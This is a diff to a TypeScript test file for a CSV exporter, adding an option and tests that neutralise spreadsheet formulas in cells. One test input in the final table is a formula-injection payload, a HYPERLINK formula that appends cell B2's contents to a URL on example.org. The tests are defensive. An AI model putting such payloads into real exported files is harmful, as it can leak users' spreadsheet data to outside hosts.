@@ -32,6 +32,9 @@ const value: fc.Arbitrary<Value> = fc.oneof(
     'x'.repeat(64),
     '"'.repeat(64),
     'y'.repeat(65),
+    '=1+1',
+    '-',
+    `@${'z'.repeat(63)}`,
   ),
   fc.string({ unit: 'binary', maxLength: 80 }),
 );
@@ -115,6 +118,7 @@ const styleOf = (keys: readonly string[]): fc.Arbitrary<CsvStyle> =>
     zone: fc.constantFrom(null, 'Europe/Berlin', 'America/St_Johns', 'Asia/Kathmandu', 'Africa/Monrovia'),
     names: fc.constant(keys.map((key) => `${key} (°C)`)),
     preface: fc.constantFrom('', '# note 2026-03-02T20:30:21Z "app": warm\r\n'),
+    escapesFormulas: fc.boolean(),
   });
 
 test('CSV in any style is that from records, byte for byte, and every local time is its instant', async () => {
@@ -149,3 +153,25 @@ test('times of one minute after another, to the µs, are those that all of the s
   for (const format of ['csv', 'ndjson'] as const)
     expect(fromCells([records], format, ['a'], 1024)).toBe(await fromRecords([records], format, ['a']));
 });
+
+test.each([
+  ['=HYPERLINK("http://example.org/?"&B2,"ok")', `"'=HYPERLINK(""http://example.org/?""&B2,""ok"")"`],
+  ['+1', `"'+1"`],
+  ['-1', `"'-1"`],
+  ['@SUM(A1)', `"'@SUM(A1)"`],
+  ['\t=1', `"'\t=1"`],
+  ['idle = no', '"idle = no"'],
+])(
+  'a formula, %j, is a text to a spreadsheet where that was asked for, and data otherwise',
+  (text, field) => {
+    const uploads = [[{ timestamp: 0, received: 0, keys: ['a'], values: [text] }]];
+    const style: CsvStyle = {
+      ...{ delimiter: ',', mark: '.', zone: null, names: ['=a'], preface: '' },
+      escapesFormulas: true,
+    };
+    expect(fromCells(uploads, 'csv', ['a'], 1, style)).toBe(
+      `timestamp,"'=a"\r\n1970-01-01T00:00:00.000000Z,${field}\r\n`,
+    );
+    expect(fromCells(uploads, 'csv', ['a'], 1)).toContain(`"${text.replaceAll('"', '""')}"`);
+  },
+);
